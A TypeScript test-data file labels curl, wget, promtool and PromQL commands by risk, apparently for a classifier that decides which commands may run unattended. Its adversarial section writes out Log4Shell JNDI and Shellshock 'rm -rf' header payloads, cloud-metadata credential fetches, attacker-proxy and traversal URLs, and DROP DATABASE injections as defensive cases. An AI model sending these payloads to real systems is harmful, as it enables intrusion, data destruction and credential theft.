import { labelled } from './label.ts';
import type { Labelled } from './label.ts';

/** curl, wget, promtool and PromQL. */
export const everyday: Labelled[] = [
  // Pages that only report, on the service itself.
  ...labelled('bash', 'read', true, `
    curl -s http://localhost:8080/status/db
    curl -s http://localhost:26257/health?ready=1
    curl -s http://localhost:4000/metrics | grep database_connection_pool_size
    curl -sf localhost:8080/healthz
    curl -s localhost:8080/health | jq .
    curl http://127.0.0.1:9090/api/v1/query?query=up
    curl -G http://localhost:9090/api/v1/query --data-urlencode 'query=sum(rate(http_requests_total[5m]))'
    curl -X GET http://localhost:3000/actuator/health
    curl -fsSL --max-time 5 --retry 3 --retry-delay 1 http://localhost:8080/readyz?verbose
    curl -k https://localhost:6443/livez/etcd
    curl --connect-timeout 2 -m 10 -H 'Accept: application/json' 'http://[::1]:8080/api/health'
    curl -s -o /dev/null -w '%{http_code}\\n' http://localhost:8080/health
    curl -so /dev/null -w "%{time_total}" http://localhost:8080/ready
    curl -I http://localhost:8080/health
    curl --head http://localhost:8080/status
    curl -s -X HEAD http://localhost:8080/version
    curl -s 'http://localhost:9090/api/v1/query?query=up{job="api"}' | jq '.data.result'
    curl -s 'http://localhost:9090/api/v1/query_range?query=rate(errors_total[1m])&start=1700000000&end=1700003600&step=60'
    curl -X POST http://localhost:9090/api/v1/query -d 'query=up == 0'
    curl -s http://localhost:9090/api/v1/query --data-urlencode 'query=topk(5, rate(errors_total[5m]))'
    curl -s http://localhost:9090/api/v1/targets?state=active
    curl -s http://localhost:9090/api/v1/rules | jq .data
    curl -s http://localhost:9090/api/v1/status/tsdb
    curl -sG http://localhost:9090/api/v1/series --data-urlencode 'match[]={job="api"}'
    curl -s http://localhost:9093/api/v2/alerts | jq '.[].labels'
    curl -s 'http://localhost:9093/api/v2/silences?filter=alertname="ApiDown"'
    curl -s localhost:9200/_cat/indices?v
    curl -s 'localhost:9200/_cat/shards?v&h=index,shard,state,unassigned.reason&s=state'
    curl -s 'http://localhost:9200/_cluster/health?pretty'
    curl -s localhost:9200/_cluster/allocation/explain?pretty
    curl -s localhost:9200/_nodes/stats/jvm?pretty
    curl -s localhost:9200/_snapshot/nightly/_all?pretty
    curl -s localhost:15672/api/queues/%2F/invoices
    curl -s 'http://localhost:15672/api/queues?sort=messages&sort_reverse=true&columns=name,messages'
    curl -s http://localhost:3100/loki/api/v1/labels
    curl -sG http://localhost:3100/loki/api/v1/query_range --data-urlencode 'query={app="api"} |= "panic"' --data-urlencode 'limit=50'
    curl -s http://localhost:8080/ingester/ring
    curl -s http://localhost:8080/memberlist
    curl -s http://localhost:3100/loki/api/v1/delete
    curl -s http://localhost:8500/v1/status/leader
    curl -s http://localhost:8500/v1/health/service/payments?passing
    curl -s http://localhost:8200/v1/sys/seal-status
    curl -s 'http://localhost:8200/v1/sys/health?standbyok=true'
    curl -s http://localhost:8008/cluster | jq .
    curl -s http://localhost:8008/sync
    curl -s http://localhost:15000/stats?filter=upstream_cx
    curl -s http://localhost:15000/clusters
    curl -s http://localhost:8080/actuator/metrics/hikaricp.connections.active?tag=pool:main
    curl -s http://localhost:8080/actuator/loggers
    curl -s http://localhost:8083/connectors/orders-sink/status | jq .
    curl -s http://localhost:8083/connectors?expand=status
    curl -s http://localhost:6060/debug/vars
    curl -s -A 'Mozilla/5.0 (X11; Linux x86_64) lifeguard' http://localhost:8080/health
    curl -s http://localhost/nginx_status
    curl -s 'http://localhost:8404/stats;csv'
    curl -s 'http://localhost:9000/status?full&json'
    curl -s http://localhost:8222/connz?subs=1
    wget -qO- http://localhost:8080/health
    wget -q -O - http://localhost:4000/metrics | grep pool
    wget --spider -T 3 http://localhost:8080/healthz
    wget -nv -O /dev/null --tries=1 --timeout=5 http://localhost:8080/ready
    promtool query instant http://localhost:9090 'up == 0'
  `),
  // Reads a person starts: another host, a placeholder, a credential, a cost, a secret, no end, or a resource like any other.
  ...labelled('bash', 'read', false, `
    curl -s -H "Authorization: Bearer {{ token }}" http://localhost:8080/health
    curl -s -u {user}:{password} http://localhost:8080/health
    curl -s http://localhost:8080/api/v1/shipments/123/tracking
    curl -s 'http://localhost:8080/api/products/search?q=shoes'
    curl -s 'http://localhost:8080/api/weather/forecast?city=Oslo'
    curl -s 'http://localhost:8080/api/notifications?unread=true'
    curl -s http://localhost:8080/api/merchants/7/payouts
    curl -s https://api.example.com/health
    curl -sSf -o /dev/null -w '%{http_code} %{time_total}s' https://www.example.com
    curl -I https://www.example.com/
    curl -sI https://shop.example.com/static/app.js | grep -i cache-control
    curl -sv https://api.example.com/health 2>&1 | grep -i expire
    curl -sv http://localhost:8080/health 2>&1 | grep HTTP
    curl -s -X OPTIONS -H 'Origin: https://shop.example.com' -H 'Access-Control-Request-Method: POST' https://api.example.com/orders
    curl -s http://prometheus.monitoring.svc:9090/api/v1/alerts
    curl -s http://payments:8080/metrics
    curl -s "$PROMETHEUS_URL/api/v1/query?query=up"
    curl -s "\${PROM}/api/v1/query" --data-urlencode "query=rate(errors_total{namespace=\\"$NAMESPACE\\"}[5m])"
    curl -s http://<pod-ip>:9090/metrics
    curl -s https://$API_HOST/health
    curl -s http://$SERVICE.$NAMESPACE.svc.cluster.local:8080/ready
    curl -H "Authorization: Bearer $TOKEN" https://api.example.com/v1/orders/1234
    curl -s -u admin:admin http://localhost:3000/api/health
    curl -s http://guest:guest@localhost:15672/api/overview
    curl -s -H 'X-Api-Key: abc' http://localhost:8080/status
    curl -s --cacert ca.crt --cert client.crt --key client.key https://localhost:2379/health
    curl -s -H 'Host: shop.example.com' http://localhost/health
    curl -s -H 'X-Scope-OrgID: acme' http://localhost:8080/ready
    curl -s 'localhost:8080/api/orders?status=pending&limit=10'
    curl -s http://localhost:8080/api/v1/users/42
    curl -s http://localhost:8080/api/v1/users/42/sessions
    curl -s http://localhost:8080/api/customers/<customer-id>/invoices
    curl -s http://localhost:8080/api/{tenant}/usage
    curl -s http://localhost:8080/api/builds/<build-id>
    curl -s http://localhost:8080/api/payments/pay_123
    curl -s 'http://localhost:3000/api/products?category=shoes&page=2&sort=-price'
    curl -s http://localhost:8080/internal/cache/stats
    curl -s http://localhost:8080/queue/depth
    curl -s http://localhost:8080/api/feature-flags
    curl -s 'http://localhost:8080/logs?limit=10'
    curl -s http://localhost:8080/admin/pool/stats
    curl -s http://localhost:8080/
    curl -s localhost:9200
    curl -s http://localhost:8080/backup/status
    curl -s http://localhost:8080/api/deployments?state=open
    curl -s https://api.github.com/repos/example/shop/releases/latest
    curl -s https://status.example.com/api/v2/summary.json
    curl -s http://localhost:6060/debug/pprof/goroutine?debug=2
    curl -s 'http://localhost:6060/debug/pprof/profile?seconds=30'
    curl -s http://localhost:8080/actuator/threaddump
    curl -s http://localhost:8080/actuator/env
    curl -s http://localhost:8500/v1/kv/payments/database?raw
    curl -s 'localhost:9200/_nodes/hot_threads?threads=3'
    curl -s -X GET 'localhost:9200/orders/_search' -H 'Content-Type: application/json' -d '{"query":{"term":{"state":"failed"}}}'
    curl -s -XPOST localhost:9200/orders/_count -H 'Content-Type: application/json' -d '{"query":{"match_all":{}}}'
    curl -s 'localhost:9200/orders-2026.11/_search?q=status:failed&size=5&pretty'
    curl -sN http://localhost:3100/loki/api/v1/tail?query=x
    curl -N -H 'Accept: text/event-stream' http://localhost:8080/events
    curl http://169.254.169.254/latest/meta-data/iam/security-credentials/x
    curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
    curl -s http://jenkins.internal:8080/job/nightly/lastBuild/api/json
    wget -qO- https://api.example.com/status
    wget -S --spider https://www.example.com
    wget -qO- --header='Authorization: Bearer abc' http://localhost:8080/metrics
    promtool query instant http://prometheus:9090 'sum(up)'
    promtool query range --start=1700000000 --end=1700003600 http://localhost:9090 'rate(errors_total[5m])'
  `),
  // Understood, and done behind a button.
  ...labelled('bash', 'change', false, `
    curl -X POST http://localhost:9090/-/reload
    curl -d 'a=b' http://localhost:4000/metrics
    curl -X POST http://localhost:4000/admin/flush
    curl -s -XPUT localhost:9200/_cluster/settings -H 'Content-Type: application/json' -d '{"transient":{"cluster.routing.allocation.enable":"all"}}'
    curl -X POST 'localhost:9200/_cluster/reroute?retry_failed=true'
    curl -X POST http://localhost:8083/connectors/orders-sink/restart
    curl -s -X POST -H "Authorization: Bearer $TOKEN" -H "Content-Type: application/json" -d '{"maintenance":true}' https://api.example.com/admin/mode
    curl -X PATCH http://<host>/api/flags/new-checkout --json '{"enabled": false}'
    curl -s -XPATCH http://localhost:8008/config -d '{"loop_wait": 10}' | jq .
    curl -X POST http://localhost:8080/actuator/loggers/com.example -H 'Content-Type: application/json' -d '{"configuredLevel":"DEBUG"}'
    curl -X PUT -u elastic:changeme 'http://localhost:9200/orders/_settings' -H 'Content-Type: application/json' -d '{"index.number_of_replicas":0}'
    curl --data-urlencode 'text=we are on it' http://localhost:8080/announcements
    wget -qO- --post-data='level=debug' http://localhost:8080/admin/log
    wget -O - --method=PUT --body-data='{"a":1}' --header='Content-Type: application/json' http://localhost:8080/settings
  `),
  ...labelled('bash', 'terminate', false, `
    curl -X DELETE http://localhost:4000/sessions/42
    curl -s -X DELETE "http://localhost:9200/logs-2026.01"
    curl -u guest:guest -XDELETE http://localhost:15672/api/queues/%2F/dead-letters/contents
    curl -X DELETE https://api.example.com/v1/tokens/<token-id> -H "Authorization: Bearer \${ADMIN_TOKEN}"
    curl -X POST localhost:9200/orders/_delete_by_query -H 'Content-Type: application/json' -d '{"query":{"range":{"day":{"lt":"now-30d"}}}}'
    curl -X POST http://localhost:8080/admin/cache/purge
    wget -qO- --method=DELETE http://localhost:8080/locks/7
  `),
  ...labelled('bash', 'manual', false, `
    curl -O https://example.com/tools/dump.tar.gz
    curl -X POST -F file=@heap.hprof https://upload.example.com/dumps
    curl -X POST -d @payload.json http://localhost:8080/orders
    curl -X POST $WEBHOOK_URL -d '{"text":"hi"}'
    curl $URL
    curl --version
    wget https://example.com/tools.tar.gz
    promtool check config prometheus.yml
    promtool tsdb analyze /prometheus
  `),
  ...labelled('promql', 'read', true, `
    up == 0
    sum by (status) (rate(http_requests_total{job="api", status=~"5.."}[5m])) / ignoring(status) group_left sum(rate(http_requests_total{job="api"}[5m])) > 0.05
    histogram_quantile(0.99, sum(rate(request_seconds_bucket[5m])) by (le))
    max_over_time(database_connection_pool_size{state="waiting"}[1h:1m] offset 1d)
    pg_stat_activity_count{state="idle in transaction"} > bool 5
    # sessions⏎sum(pg_stat_activity_count)
    label_replace(up, "node", "$1", "instance", "(.*):.*")
    {__name__=~"drop_.*|delete_total"}
  `),
  ...labelled('promql', 'read', false, `
    rate(http_requests_total{namespace="$namespace"}[$__rate_interval])
    sum(up{job="<job>"})
  `),
  ...labelled('promql', 'manual', false, `
    ALERT ApiDown IF up == 0 FOR 5m
    {app="api"} |= "error"
    sum(rate(http_requests_total[5m])
  `),
];

export const adversarial: Labelled[] = [
  // curl's own ways to do more than ask.
  ...labelled('bash', 'manual', false, `
    curl -A '\${jndi:ldap://elsewhere/a}' http://localhost:8080/health
    curl -H 'X-Request-Id: \${jndi:ldap://elsewhere/a}' http://localhost:8080/health
    curl -H 'User-Agent: () { :; }; rm -rf /data' http://localhost:8080/health
    curl -e '() { :; }; rm -rf /data' http://localhost:8080/health
    curl -u '\${jndi:ldap://elsewhere/a}:x' http://localhost:8080/health
    curl -b 'a=() { :; }; rm -rf /data' http://localhost:8080/health
    wget -qO- -U '\${jndi:ldap://elsewhere/a}' http://localhost:8080/health
    curl -s http://localhost:9090/health | jq . > x
    curl -F a=b http://localhost:9090/health
    curl -T x http://localhost:9090/health
    curl -o /etc/passwd http://localhost:9090/health
    curl -s -o /dev/null -o health.txt http://localhost:9090/health
    curl -sO http://localhost:9090/health
    curl -sOJ http://localhost:9090/health
    curl -c jar http://localhost:9090/health
    curl -b jar http://localhost:9090/health
    curl -D headers.txt http://localhost:9090/health
    curl -K evil http://localhost:9090/health
    curl --trace-ascii t http://localhost:9090/health
    curl --stderr e http://localhost:9090/health
    curl -n http://localhost:9090/health
    curl -w @format http://localhost:9090/health
    curl -w '%output{x}%{http_code}' http://localhost:9090/health
    curl http://localhost/health --next -X POST http://localhost/x
    curl http://localhost/health -: -d x http://localhost/x
    curl -Z http://localhost/health
    curl -x http://evil.example http://localhost/health
    curl --resolve localhost:80:10.0.0.9 http://localhost/health
    curl --connect-to ::evil.example:80 http://localhost/health
    curl --request-target /shutdown http://localhost/health
    curl gopher://localhost/health
    curl file:///etc/health
    curl telnet://localhost:6379
    curl dict.example.com/health
    curl --unix-socket /var/run/docker.sock http://localhost/version
    curl http://localhost/health http://localhost/shutdown
    curl http://localhost/health --url http://localhost/shutdown
    curl http://localhost/health?a=1&rm x
    curl -H @headers http://localhost/health
    curl -H 'X-HTTP-Method-Override: DELETE' http://localhost/health
    curl -H 'X-Original-URL: /shutdown' http://localhost/health
    curl -X get http://localhost/health
    curl -X PURGE http://localhost/health
    curl -X TRACE http://localhost/health
    curl -X $METHOD http://localhost/health
    curl -X GET -d '{"state":"down"}' http://localhost:8080/health
    curl -I -d x http://localhost:8080/health
    curl --silent=no http://localhost/health
    curl --reque DELETE http://localhost/health
    curl -G http://localhost:9090/api/v1/query --data-urlencode query@/etc/passwd
    curl -G http://localhost:9090/api/v1/query -d @/etc/passwd
    curl -- http://localhost/health
    curl -s http://localhost/health -o
    curl -s -o=- http://localhost:9090/health
    curl -D=- http://localhost:9090/health
    curl -X=GET http://localhost:9090/health
    curl -w "$FORMAT" http://localhost:9090/health
    wget -q -O=- http://localhost:9090/health
  `),
  // GETs that act.
  ...labelled('bash', 'manual', false, `
    curl http://localhost:8080/ingester/flush
    curl http://localhost:8080/ingester/prepare_shutdown
    curl http://localhost:8080/shutdown
    curl -I http://localhost:8080/shutdown
    curl -X OPTIONS http://localhost:8080/shutdown
    curl 'http://localhost:8080/ring?forget=ingester-3'
    curl http://localhost:9901/healthcheck/fail
    curl http://localhost:9901/quitquitquit
    curl http://localhost:9901/logging?level=debug
    curl 'http://localhost:8080/loglevel?level=debug'
    curl http://localhost:8080/cacheflush
    curl http://localhost:8080/admin/FLUSHALL
    curl http://localhost:8080/admin/resetStats
    curl http://localhost:8080/reset/metrics
    curl http://localhost:8080/toggle/health
    curl 'http://localhost:8080/health?status=down'
    curl http://localhost:8080/api/cache/re-load
    curl http://localhost:8080/api/jobs/nightly/run
    curl http://localhost:8080/api/queue/next
    curl http://localhost:8161/api/message/orders?type=queue
    curl 'http://localhost:8983/solr/admin/cores?action=RELOAD&core=orders'
    curl 'http://localhost:8080/manager/text/stop?path=/shop'
    curl 'http://localhost:8080/index?do=purge'
    curl 'http://localhost:8080/api/orders?_method=DELETE'
    curl 'http://localhost:8080/api/orders?name=x&cmd=purge'
    curl 'http://localhost:8080/relay/0?turn=off'
    curl 'http://localhost:8080/api/servers?mode=maintenance'
    curl 'http://localhost:8080/api/circuit-breakers?state=closed'
    curl http://localhost:8080/jolokia/exec/java.lang:type=Memory/gc
    curl http://localhost:8080/jolokia/write/java.lang:type=Memory/Verbose/true
    curl http://localhost:15672/api/aliveness-test/%2F
    curl http://localhost:4646/v1/client/gc
    curl http://localhost:8088/jobs/1f2e/yarn-cancel
    curl http://localhost:8200/v1/database/creds/admin
    curl http://localhost:4242/api/dropcaches
    curl http://localhost:2181/commands/stat_reset
    curl http://localhost:8080/commands/srst
    curl http://localhost:8086/query?q=DROP+DATABASE+x
    curl 'http://localhost:8080/api/v1/query?query=DELETE FROM orders'
    curl 'http://localhost:8080/api/v1/query?query=up&sql=x'
    curl 'http://localhost:8080/metrics?reset=true'
    curl 'http://localhost:8080/stats?command=clear'
    curl http://localhost:8080/debug/pprof/heap?gc=1
    curl http://localhost:9090/api/v1/admin/tsdb/delete_series?match[]=up
    curl http://localhost:6443/api/v1/namespaces/shop/pods/api-1/exec?command=ls
    curl http://localhost:8001/api/v1/namespaces/shop/services/api/proxy/shutdown
    curl http://localhost:8080/cron.php
    curl http://localhost:8080/api/datasources/refresh
    curl http://localhost:8080/api/connections/reset
    curl http://localhost:8080/fizzbuzz
    curl http://localhost:8080/api/$ACTION
    curl http://localhost:8080/<path>
    curl http://localhost:8080/api/jobs/<job-to-restart>
    curl http://localhost:8080/health/../shutdown
    curl http://localhost/admin/../shutdown/%2e%2e/health
    curl http://localhost:8080/%73hutdown
    curl 'http://localhost:8080/[a-z]'
    curl 'http://localhost:8080/{health,shutdown}'
    curl http://localhost:8080//shutdown/health
    curl 'http://localhost:8080/health;shutdown'
    curl 'http://localhost:8080\\@evil.example/health'
    curl https://api.opsgenie.com/v2/heartbeats/nightly-import/ping
    curl http://localhost:8428/internal/log_new_series?seconds=60
    curl http://localhost:4242/logs?level=DEBUG
    curl http://localhost:8080/loggers/orders/DEBUG
    curl http://localhost:8080/weights/blue/90
    curl http://localhost:8080/switches/payments/0
    curl http://localhost:8080/config/max_connections/200
    curl http://localhost:8080/pools/main/50
    curl http://localhost:8080/users/7/role/admin
    curl http://localhost:8080/health/0
    curl http://localhost:8080/debug/1
    curl http://localhost:8080/functions/v1/nightly-import
    curl http://localhost:8080/scripts/nightly
    curl http://localhost:8080/triggers/reindex
    curl http://localhost:8080/manager/text/findleaks
    curl http://localhost:8082/consumers/billing/instances/one/topics/orders
    curl http://localhost:8500/v1/agent/service/deregister
    curl http://localhost:9200/_tasks/_cancel
    curl http://localhost:8080/$ANYTHING
    curl http://localhost:8080/{id}
    wget -qO- http://localhost:8080/trigger
    wget --spider http://localhost:8080/api/restart
  `),
  // Hosts where being asked is the deed, and hosts in disguise.
  ...labelled('bash', 'manual', false, `
    curl -fsS -m 10 --retry 5 https://hc-ping.com/5f0c9e1a-1111-4222-8333-944455556666
    curl -I https://hc-ping.com/5f0c9e1a-1111-4222-8333-944455556666
    curl https://nosnch.in/c2354d53d2
    curl 'https://api.telegram.org/bot123:ABC/getUpdates'
    curl https://hooks.slack.com/services/T0/B0/status
    curl https://slack.com/api/api.test
    curl https://maker.ifttt.com/trigger/x/with/key/y
    curl https://jenkins.example.com/job/deploy/build?token=abc
    curl http://jenkins:8080/safeRestart
    curl https://webhook.example.com/status
    curl 'https://ec2.amazonaws.com/?Action=TerminateInstances&InstanceId.1=i-1'
    curl https://pulse.updown.io/ab12/cd34
    curl https://wdt.io/nightly-import
    curl https://uptime.example.com/p/5f0c9e1a-1111-4222-8333-944455556666
    curl https://beats.example.com/monitors/8fK2mZq91LxT0vBn47Rs
    curl https://example.com/b/<uuid>
    curl https://api.example.com/v2/heartbeats/nightly/ping
    curl https://api.example.com/monitors/nightly/ping
    curl 'https://metrics.example.com/count?name=deploys'
    curl https://abc123.execute-api.eu-west-1.amazonaws.com/prod/status
    curl https://push.example.com/status
    curl http://2852039166/latest/meta-data
    curl http://0xa9fea9fe/latest/meta-data
    curl http://169.254.169.254.nip.io/latest/meta-data
    curl 'http://[::ffff:169.254.169.254]/latest/meta-data'
    curl http://127.1/health
    curl --url @addresses.txt
    curl http://localhost:8080/orders/7/status/queue
    curl 'http://localhost:8086/query?q=DROP+DATABASE+metrics'
    curl http://localhost:8080/fares/7/100
    curl http://localhost:8080/experiments/7/traffic/100
    curl -s @localhost:8080/health
    curl http://localhost:8080/versions/12/live
    curl http://localhost:8080/slots/blue/production
    curl http://localhost:8080/nodes/node-3/standby
    curl http://localhost:8080/cluster/leader/node-3
    curl http://localhost:8080/user/7/role/admin
    curl http://localhost:8080/readiness?ready=false
    curl http://localhost:8080/items/7/quantity/0
    curl http://localhost:8080/prices/7/100
    curl http://localhost:8080/consumers/billing/offset/0
    curl http://localhost:8080/deployments/api/replicas/5
    curl http://localhost:8080/log/debug
    curl http://localhost:8080/queues/invoices/messages
    curl https://acme.queue.core.windows.net/invoices/messages
    curl -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60'
  `),
  // Writes, however they are put; none is a read.
  ...labelled('bash', 'change', false, `
    curl -sXPOST http://localhost:9090/health
    curl -X GET -X POST http://localhost:9090/health
    curl -I -X POST http://localhost:9090/health
    curl -G -X POST -d a=b http://localhost:9090/health
    curl --json '{}' http://localhost:9090/health
    curl -sd '' http://localhost:9090/health
    curl http://localhost:9090/health --data-raw @x
    curl -X POST http://localhost:8080/api/v1/labels -d 'name=urgent'
    curl -X POST http://localhost:8080/api/v1/series
    curl -X POST 'http://localhost:8080/api/v1/query' -H 'Content-Type: application/json' -d '{"query":"x"}'
    wget -O- --post-data 'x=1' http://localhost:9090/health
  `),
  ...labelled('bash', 'terminate', false, `
    curl -sSfXDELETE http://localhost:9200/health
    curl -I -X DELETE http://localhost:9200/health
    curl --head --request DELETE http://localhost:9200/_search
    curl -X POST http://localhost:9090/api/v1/admin/tsdb/delete_series -d 'match[]=up'
    curl -X POST http://localhost:8080/jobs -d '{"action":"truncate"}'
  `),
  ...labelled('bash', 'manual', false, `
    curl -X POST http://localhost:8080/orders -d '{"id": 1, ...}'
    curl -X POST http://localhost:8080/orders -d 'a=1' --data-urlencode 'b=2'
    curl -X DELETE 'http://localhost:9200/logs-[1-9]'
    curl -X POST http://localhost:8080/orders -H 'X-Force: yes'
    curl -X DELETE http://localhost:8080/ring -H 'X-Scope-OrgID: acme'
    curl -X DELETE http://localhost:8080/a/%2e%2e/b
    curl -X POST http://localhost:8080/orders -d "$(cat order.json)"
    wget --spider --post-data 'x=1' http://localhost:9090/health
    wget -O health.html http://localhost:8080/health
    wget -q http://localhost:8080/health
    wget -qO- -i list.txt
    wget -qO- -e 'output_document=x' http://localhost:8080/health
    wget -o log -O- http://localhost:8080/health
    wget -qO- --post-file=x http://localhost:8080/health
    wget -qO- http://localhost:8080/health http://localhost:8080/shutdown
  `),
  // Reads that must not run by themselves.
  ...labelled('bash', 'read', false, `
    curl http://user:password@localhost/health
    curl http://localhost@evil.example/health
    curl http://localhost.evil.example/health
    curl -s 'http://localhost:8080/health?token=abc'
    curl http://localhost:8080/actuator/heapdump
    curl http://localhost:8080/.env
    curl http://100.100.100.200/latest/meta-data/ram/security-credentials/
    curl http://169.254.170.2/v2/credentials/x
    curl http://localhost:8083/connectors/orders-sink
    curl http://localhost:8083/connectors?expand=info
    curl http://localhost:15672/api/parameters
    curl http://localhost:8080/jolokia/read/java.lang:type=Runtime/SystemProperties
    curl http://localhost:9200/.security-7/_search
    curl http://localhost:9200/customers/_doc/17
    curl http://localhost:10250/pods
    curl http://localhost:4646/v1/job/payments
    curl http://localhost:8080/api/rawdata
  `),
  ...labelled('promql', 'manual', false, `
    DROP TABLE orders
    up; rm x
    $(rm x)
    kubectl delete pod x
    delete_series(up)
    up"
  `),
];
